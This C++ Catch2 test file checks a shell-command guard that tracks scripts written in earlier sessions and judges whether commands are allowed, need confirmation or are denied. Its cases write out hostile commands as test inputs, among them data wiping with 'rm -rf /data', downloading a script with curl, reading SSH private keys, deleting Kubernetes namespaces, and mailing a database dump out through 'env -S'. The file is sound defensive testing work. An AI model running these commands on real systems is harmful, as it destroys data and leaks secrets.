// What a guard knows of files that were written before, and what hides nothing from its rules.
#include <catch2/catch.hpp>

#include "policy/guard/guard.h"
#include "policy/guard/packs/packs.h"

using namespace sallyport;
using namespace sallyport::guard;

namespace {

std::shared_ptr<const RuleSet> full() {
  static const auto k_set = *RuleSet::from_bytes(encode(full_document()));
  return k_set;
}
Verdict verdict(const Guard& guard, const std::string& text) { return guard.judge(text, Dialect::shell, Origin::exec).verdict; }

}  // namespace

TEST_CASE("a file of an earlier session is found by its path from any folder", "[guard][files]") {
  Guard guard(full());
  guard.file_written("/home/x/evil.sh", "", "rm -rf /data\n");
  CHECK(verdict(guard, "sh /home/x/evil.sh") == Verdict::deny);
  CHECK(verdict(guard, "sh evil.sh") == Verdict::deny);       // the folder at the start is not known
  CHECK(verdict(guard, "sh ./evil.sh") == Verdict::deny);
  CHECK(verdict(guard, "cd /home/x && ./evil.sh") == Verdict::deny);
  CHECK(verdict(guard, "cd /srv && sh evil.sh") < Verdict::deny);
  CHECK(verdict(guard, "ls") == Verdict::allow);
  guard.file_written("/srv/bin/ls", "", "rm -rf /data\n");
  CHECK(verdict(guard, "ls") == Verdict::allow);  // found by PATH, not there
  CHECK(verdict(guard, "/srv/bin/ls") == Verdict::deny);
}

TEST_CASE("files that a shell wrote are told once, and what was edited is not known any more", "[guard][files]") {
  Guard guard(full());
  guard.ran("echo 'rm -rf /data' > /srv/a.sh; printf 'x' > /dev/null; curl -s http://h/x > /srv/b.sh");
  auto told = guard.take_written();
  REQUIRE(told.size() == 2);
  CHECK(told[0].first == "/srv/a.sh");
  CHECK(told[0].second == "rm -rf /data\n");
  CHECK(told[1].first == "/srv/b.sh");
  CHECK_FALSE(told[1].second);
  CHECK(guard.take_written().empty());
  CHECK(verdict(guard, "sh /srv/a.sh") == Verdict::deny);
  guard.ran("vim /srv/a.sh");
  told = guard.take_written();
  REQUIRE(told.size() == 1);
  CHECK_FALSE(told[0].second);
  const Judgement judged = guard.judge("sh /srv/a.sh", Dialect::shell, Origin::exec);
  CHECK(judged.verdict < Verdict::deny);
  CHECK_FALSE(judged.commands.empty());
  guard.ran("ls /srv");
  CHECK(guard.take_written().empty());
}

TEST_CASE("variables in front of a command hide it from no rule and excuse it by none", "[guard]") {
  const Guard guard(full());
  for (const std::string text : {"LC_ALL=C kubectl delete pvc --all", "A=1 B=2 machinectl shell root@c1", "A='--dry-run' kubectl delete ns prod", "A=--help apt-get remove -y sudo"}) {
    INFO(text);
    CHECK(verdict(guard, text) >= Verdict::confirm);
  }
  CHECK(verdict(guard, "LC_ALL=C kubectl get pods") == Verdict::allow);
}

TEST_CASE("a wildcard that names keys is not excused by what else it may match", "[guard]") {
  const Guard guard(full());
  CHECK(verdict(guard, "cat ~/.ssh/id_*") == Verdict::deny);
  CHECK(verdict(guard, "cat /home/*/.ssh/id_*") == Verdict::deny);
  CHECK(verdict(guard, "cat ~/.ssh/*.pub") == Verdict::allow);
  CHECK(verdict(guard, "cat ~/.ssh/id_*.pub") == Verdict::allow);
  CHECK(verdict(guard, "cat err.*") == Verdict::allow);
}

TEST_CASE("a word that env splits leaves those behind it whole", "[guard]") {
  const Guard guard(full());
  CHECK(verdict(guard, "env -S bash --norc -c 'mutt -a dump.sql -- me@example.net'") == Verdict::deny);
  CHECK(verdict(guard, "env -S 'bash -c \"rm -rf /data\"'") == Verdict::deny);
}
